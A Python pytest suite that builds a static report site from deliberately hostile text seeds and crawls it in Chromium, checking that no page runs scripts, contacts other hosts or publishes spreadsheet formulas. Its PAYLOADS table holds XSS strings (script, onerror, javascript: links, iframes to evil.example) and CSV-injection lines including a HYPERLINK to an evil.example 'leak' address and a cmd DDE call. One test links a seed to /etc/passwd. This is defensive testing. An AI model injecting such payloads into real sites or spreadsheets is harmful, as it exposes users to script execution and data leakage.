"""A site built from the hostile seeds (tests/fixtures/hostile/), crawled in Chromium (issue 9).

One real build (`python -m build_scripts build`) from the seeds that parse; then every built
page is opened in Debian's Chromium with a dialog handler: no dialog, no request to another host,
no console error, no attribute naming another host, and the payloads shown as the text they are.
The seeds that must be refused are built one at a time beside a good one: one error line naming
the seed, a non-zero exit, and the previous site exactly as it was.
"""
from __future__ import annotations

import csv
import hashlib
import re
import shutil
from pathlib import Path
from urllib.parse import urlparse

import pytest

from conftest import FIXTURES, run_build, serve

HOSTILE = FIXTURES / "hostile"
# Refused, with what the error line says (the README of the fixtures explains each).
REFUSED = {
    "empty.txt": "file is empty",
    "gb18030.txt": "GB18030",
    "utf16_no_bom.txt": "UTF-16-LE without a byte order mark",
    "impossible_date.txt": "impossible date in '发布时间:2024-13-45 25:99'",
    "long_title_200.txt": "the title is 200 characters long; the limit is 120",
}
# The hostile paragraph of a seed, as typed: the report page must show exactly this text.
PAYLOADS = {
    "html_script": "<script>alert(document.cookie)</script>投资90亿元。",
    "html_img_onerror": "<img src=x onerror=alert(1)>投资91亿元。<svg onload=alert(2)>",
    "html_iframe": "<iframe src=http://evil.example></iframe>投资92亿元。<object data=http://evil.example/o></object>",
    "html_style": '<style>body{display:none}</style><div style="background:url(http://evil.example/b.png)">投资93亿元</div>',
    "html_links": '<a href="javascript:alert(1)">点此</a> [点我](javascript:alert(1)) <http://evil.example> 投资94亿元。',
    "html_entities_comments": "&amp; &lt;script&gt; &#60;b&#62; &#x3C;i&#x3E; <!-- 注释 --> <![CDATA[x]]> 投资95亿元。",
    "jinja": "{{ config.extra }} {% raw %}{% for x in y %}{{ x }}{% endfor %}{% endraw %} {# 注释 #} 投资96亿元。",
    "markdown_inline": "**粗体**_斜体_ [链接](http://evil.example/a) ![图片](http://evil.example/x.png) `代码` 投资50亿元。",
    "markdown_extensions": "3~5年内 ==高亮== ^^插入^^ ~~删除~~ 2^10 src=x ++ctrl+alt+del++ [TOC] *[GDP]: 篡改的解释 投资70亿元。",
    "attr_list": '投资80亿元 {: onclick="alert(1)" .evil #x } 和 {#id style="display:none"}',
    "emoji_ratio": "按1:100:5的比例配套建设,带动社会投资100亿元,时间为08:30:00。",
    "emoji_shortcodes": ":material-factory: :smile: :fontawesome-brands-github: :octicons-alert-16: :100: 新增企业2000家。",
    "urls_other_hosts": "详见http://evil.example/track.png与https://cdn.evil.example/a.js,www.evil.example,//evil.example/x 投资97亿元。",
    "csv_hyperlink": '=HYPERLINK("http://evil.example/leak","总投资9999亿元")项目全面开工。',
    "csv_at_sum": "@SUM(1+1)*cmd|' /C calc'!A0 全年完成总投资9999亿元。",
}
REPORT_PAGES = ("", "economy/", "urban-renewal/", "livelihood/", "culture/", "report/", "corrections/", "data/")
# Crawled per report (all eight took 90 s): the overview, a theme page (charts put the figures'
# sentences into tooltips), the full text and the data page; the site-wide pages are all crawled.
CRAWLED_PAGES = ("", "economy/", "report/", "data/")
# The cleaner writes full-width punctuation after Chinese text (, → ，); payloads are compared without it.
WIDTH = str.maketrans("，（）：；！？", ",():;!?")
LOCAL = "127.0.0.1"
# Attributes that make a browser fetch or navigate: each must stay on this host.
URL_ATTRIBUTES = ("src", "href", "srcset", "style", "action", "formaction", "data", "poster", "xlink:href", "background")
CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?$")


def parsing_seeds() -> list[Path]:
    return [p for p in sorted(HOSTILE.glob("*.txt")) if p.name not in REFUSED]


def files_of(site: Path) -> dict[str, str]:
    """Every file of a site folder with the hash of its bytes, to tell whether a build touched it."""
    return {p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(site.rglob("*")) if p.is_file()}


@pytest.fixture(scope="session")
def hostile_site(tmp_path_factory) -> Path:
    """The site built once, cold, from every hostile seed that parses."""
    root = tmp_path_factory.mktemp("hostile")
    seeds = root / "seeds"
    seeds.mkdir()
    for seed in parsing_seeds():
        shutil.copy(seed, seeds / seed.name)
    site = root / "site"
    result = run_build(site, {"EXPLAINER_SEEDS": str(seeds), "EXPLAINER_CACHE": str(root / "cache")})
    assert result.returncode == 0, result.stderr
    return site


def test_every_hostile_seed_is_either_built_or_listed_as_refused(hostile_site):
    built = {p.name for p in hostile_site.iterdir() if (p / "report" / "index.html").is_file()}
    assert built == {p.stem for p in parsing_seeds()}
    assert set(REFUSED) <= {p.name for p in HOSTILE.glob("*.txt")}


def test_the_site_of_a_21000_character_paragraph_stays_small(hostile_site):
    # Issue 9: each figure copied its whole sentence into every page and file (3.9 GB for 10,000 figures).
    pages = sum(p.stat().st_size for p in (hostile_site / "long_line").rglob("*") if p.is_file())
    assert pages < 4_000_000, pages


# ---------------------------------------------------------------- the CSV readers open in a spreadsheet


def test_no_cell_of_the_published_csv_starts_a_formula(hostile_site):
    for path in [*(hostile_site / "data" / "figures").glob("*.csv"), *hostile_site.glob("*/data/figures.csv")]:
        with open(path, encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
        assert len(rows) > 1, path
        bad = [(path.parent.parent.name, cell) for row in rows for cell in row
               if cell.startswith(CSV_TRIGGERS) and not NUMBER.match(cell)]
        assert bad == []


def test_negative_figures_stay_numbers_in_the_csv(hostile_site):
    with open(hostile_site / "negative_numbers" / "data" / "figures.csv", encoding="utf-8-sig", newline="") as handle:
        values = [row["value"] for row in csv.DictReader(handle)]
    assert "-3.3" in values and "-120" in values


# ---------------------------------------------------------------- seeds that are refused


@pytest.fixture(scope="module")
def previous_site(hostile_site, tmp_path_factory) -> Path:
    """A copy of the hostile site, standing as the site a failed build must leave alone."""
    site = tmp_path_factory.mktemp("previous") / "site"
    shutil.copytree(hostile_site, site)
    return site


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_a_refused_seed_stops_the_build_in_one_line_naming_it_and_the_site_stays(previous_site, tmp_path, name):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copy(HOSTILE / "negative_numbers.txt", seeds)
    shutil.copy(HOSTILE / name, seeds)
    before = files_of(previous_site)
    result = run_build(previous_site, {"EXPLAINER_SEEDS": str(seeds), "EXPLAINER_CACHE": str(tmp_path / "cache")})
    assert result.returncode != 0
    assert files_of(previous_site) == before
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {seeds / name}: "), result.stderr
    assert REFUSED[name] in lines[0]


# ---------------------------------------------------------------- issue 23: titles, names, links and the cache

# What the three hostile titles hold as markup: none of it may reach any page as a tag.
TITLE_MARKUP = ("<svg/onload", "<img src=x onerror", "<b>副题", "<strong>临江市", "<em>第五次", 'onclick="alert(4)"')
# Characters no published file may hold: bidi controls, C1 controls, noncharacters (as characters or JSON escapes).
NOT_TEXT = re.compile(r"[\u202a-\u202e\u2066-\u2069\x80-\x9f\ufffe\uffff]|\\u(?:202[a-e]|206[6-9]|00[89][0-9a-f]|fff[ef])",
                      re.IGNORECASE)


def test_no_page_holds_the_markup_of_a_hostile_title(hostile_site):
    # Material printed a report's navigation title (its first 20 characters) unescaped on every page.
    found = {(page.relative_to(hostile_site).as_posix(), mark) for page in hostile_site.rglob("*.html")
             for mark in TITLE_MARKUP if mark in page.read_text(encoding="utf-8")}
    assert found == set()


def test_a_title_without_place_or_year_names_its_report_in_the_navigation_as_text(hostile_site):
    # The report's own pages carry its entry in the (pruned) navigation: the title's first 20 characters.
    page = (hostile_site / "title_svg" / "index.html").read_text(encoding="utf-8")
    navigation = page[page.index("md-nav--primary"):page.index("md-sidebar--secondary")]
    assert "&lt;svg/onload=alert(1)" in navigation


def test_no_published_file_holds_a_bidi_control_or_a_character_yaml_refuses(hostile_site):
    # Bidi overrides were kept in subtitles, embed credits and the CSV/JSON downloads.
    found = {path.relative_to(hostile_site).as_posix() for path in hostile_site.rglob("*")
             if path.suffix in (".html", ".csv", ".json", ".xml") and NOT_TEXT.search(path.read_text(encoding="utf-8"))}
    assert found == set()


# Built beside a good seed, each refused in one line naming it, the previous site untouched. Each once
# built with status 0 (replacing a site page, landing on the root, vanishing, an unencoded address) or
# failed naming mkdocs.yml; the symbolic link published /etc/passwd as a report.
NAMES_REFUSED = {"compare.txt": "the address of the site's own compare/", "..txt": "cannot be a web address",
                 ".hidden.txt": "cannot be a web address", "r#1.txt": "cannot be a web address",
                 "<b>x.txt": "cannot be a web address", "Negative_numbers.txt": "only in case",
                 "passwd.txt": "is a symbolic link"}


@pytest.mark.parametrize("name", sorted(NAMES_REFUSED))
def test_a_seed_whose_name_cannot_be_its_address_stops_the_build_in_one_line_and_the_site_stays(previous_site, tmp_path,
                                                                                                 name):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copy(HOSTILE / "negative_numbers.txt", seeds)
    if name == "passwd.txt":
        (seeds / name).symlink_to("/etc/passwd")
    else:
        shutil.copy(HOSTILE / "html_script.txt", seeds / name)
    before = files_of(previous_site)
    result = run_build(previous_site, {"EXPLAINER_SEEDS": str(seeds), "EXPLAINER_CACHE": str(tmp_path / "cache")})
    assert result.returncode == 1
    assert files_of(previous_site) == before
    lines = result.stderr.strip().splitlines()
    named = "negative_numbers.txt" if name == "Negative_numbers.txt" else name  # the second of the pair is named
    assert len(lines) == 1 and lines[0].startswith(f"error: {seeds / named}: "), result.stderr
    assert NAMES_REFUSED[name] in lines[0]


def test_a_cache_of_garbage_and_of_pickles_of_another_type_is_remade_and_the_site_is_the_same(tmp_path):
    # One cache file holding `garbage` made every later build fail, and --no-cache did not repair it.
    import pickle

    seeds, cache = tmp_path / "seeds", tmp_path / "cache"
    seeds.mkdir()
    shutil.copy(HOSTILE / "negative_numbers.txt", seeds)
    env = {"EXPLAINER_SEEDS": str(seeds), "EXPLAINER_CACHE": str(cache)}
    assert run_build(tmp_path / "first", env).returncode == 0
    entries = sorted(cache.rglob("*.pickle"))
    assert len(entries) >= 2  # the report's share and the site-wide part
    entries[0].write_bytes(b"garbage\n")
    for entry in entries[1:]:
        entry.write_bytes(pickle.dumps(["a list, where the build stores something else"]))
    result = run_build(tmp_path / "second", env)
    assert result.returncode == 0, result.stderr
    assert files_of(tmp_path / "second") == files_of(tmp_path / "first")
    assert all(entry.read_bytes() != b"garbage\n" for entry in entries)  # remade, so the next build reuses them


# ---------------------------------------------------------------- in the browser

playwright_api = pytest.importorskip("playwright.sync_api")

from conftest import CHROMIUM, CHROMIUM_ARGS  # noqa: E402

# Every attribute that names a URL, resolved against the page: the ones on another host, or javascript:.
FOREIGN_ATTRIBUTES = """(names) => {
  const found = [];
  const check = (el, name, value) => {
    let url;
    try { url = new URL(value.trim(), document.baseURI); } catch (e) { return; }
    if (url.protocol === 'javascript:' || (/^https?:$/.test(url.protocol) && url.hostname !== location.hostname))
      found.push(el.tagName + ' ' + name + '=' + value);
  };
  for (const el of document.querySelectorAll('*')) {
    for (const name of names) {
      const value = el.getAttribute(name);
      if (value === null) continue;
      if (name === 'style') {
        for (const m of value.matchAll(/url\\(\\s*['"]?([^'")]*)/g)) check(el, name, m[1]);
      } else if (name === 'srcset') {
        for (const part of value.split(',')) check(el, name, part.trim().split(/\\s+/)[0]);
      } else {
        check(el, name, value);
      }
    }
  }
  for (const sheet of document.querySelectorAll('style')) {
    for (const m of sheet.textContent.matchAll(/url\\(\\s*['"]?([^'")]*)/g)) check(sheet, 'css', m[1]);
  }
  return found;
}"""


@pytest.fixture(scope="module")
def server(hostile_site):
    with serve(hostile_site) as url:
        yield url


def pages_to_crawl(site: Path) -> list[str]:
    """The site-wide pages and the crawled pages of every report, as URL paths."""
    reports = sorted(p.name for p in site.iterdir() if (p / "report" / "index.html").is_file())
    shared = sorted(p.parent.relative_to(site).as_posix() + "/" for p in site.glob("*/index.html")
                    if p.parent.name not in reports and p.parent.name not in ("search", "assets"))
    return ["", *shared, *(f"{slug}/{page}" for slug in reports for page in CRAWLED_PAGES)]


@pytest.fixture(scope="module")
def crawl(hostile_site, server):
    """Open every page once in one browser context; what each page did, by path."""
    seen = {}
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        page = context.new_page()
        log = {"dialogs": [], "errors": [], "requests": []}

        def on_dialog(dialog):
            log["dialogs"].append(f"{dialog.type}: {dialog.message}")
            dialog.dismiss()

        page.on("dialog", on_dialog)
        page.on("console", lambda m: m.type == "error" and log["errors"].append(m.text))
        page.on("pageerror", lambda e: log["errors"].append(str(e)))
        page.on("request", lambda r: log["requests"].append(r.url))
        for path in pages_to_crawl(hostile_site):
            for entries in log.values():
                entries.clear()
            response = page.goto(server + path, wait_until="load")
            page.wait_for_timeout(50)  # scripts that run on load (charts, tooltips) get their turn
            seen[path] = {
                "status": response.status if response else None,
                "dialogs": list(log["dialogs"]), "errors": list(log["errors"]),
                "foreign": [u for u in log["requests"] if urlparse(u).hostname != LOCAL
                            and not u.startswith(("data:", "blob:"))],
                "attributes": page.evaluate(FOREIGN_ATTRIBUTES, list(URL_ATTRIBUTES)),
                "text": page.inner_text(".md-content") if path.endswith("report/") else "",
            }
        context.close()
        browser.close()
    return seen


def test_every_report_has_its_eight_pages_and_each_crawled_page_loads(hostile_site, crawl):
    missing = [f"{seed.stem}/{page}" for seed in parsing_seeds() for page in REPORT_PAGES
               if not (hostile_site / seed.stem / page / "index.html").is_file()]
    assert missing == []
    assert len([path for path in crawl if path.endswith("report/")]) == len(parsing_seeds())
    assert {path: page["status"] for path, page in crawl.items() if page["status"] != 200} == {}


def test_no_page_opens_a_dialog(crawl):
    assert {path: page["dialogs"] for path, page in crawl.items() if page["dialogs"]} == {}


def test_no_page_requests_another_host(crawl):
    assert {path: page["foreign"] for path, page in crawl.items() if page["foreign"]} == {}


def test_no_page_logs_a_console_error(crawl):
    assert {path: page["errors"] for path, page in crawl.items() if page["errors"]} == {}


def test_no_attribute_names_another_host_or_a_script(crawl):
    assert {path: page["attributes"] for path, page in crawl.items() if page["attributes"]} == {}


def test_searching_the_payloads_opens_no_dialog_and_shows_them_as_text(hostile_site, server):
    """Search results are report text too: Pagefind's excerpts keep their <mark>s and nothing else."""
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        dialogs = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(server, wait_until="networkidle")
        shown = []
        for word in ("alert", "onerror", "script", "测试报告", "投资"):
            page.fill(".md-search__input", word)
            page.wait_for_selector(".md-search-result__item a", timeout=20000)
            page.wait_for_timeout(300)
            shown += page.eval_on_selector_all(".md-search-result__item a *", "els => els.map(e => e.tagName)")
        browser.close()
    assert dialogs == []
    assert set(shown) <= {"ARTICLE", "H1", "P", "MARK"}, sorted(set(shown))


@pytest.mark.parametrize("slug", sorted(PAYLOADS))
def test_each_payload_shows_as_the_text_it_is(crawl, slug):
    seed_lines = [line.strip() for line in (HOSTILE / f"{slug}.txt").read_text(encoding="utf-8").splitlines()]
    assert PAYLOADS[slug] in seed_lines  # the payload as the seed has it
    shown = re.sub(r"[ \t\n]+", " ", crawl[f"{slug}/report/"]["text"]).translate(WIDTH)
    assert re.sub(r"[ \t\n]+", " ", PAYLOADS[slug]).translate(WIDTH) in shown
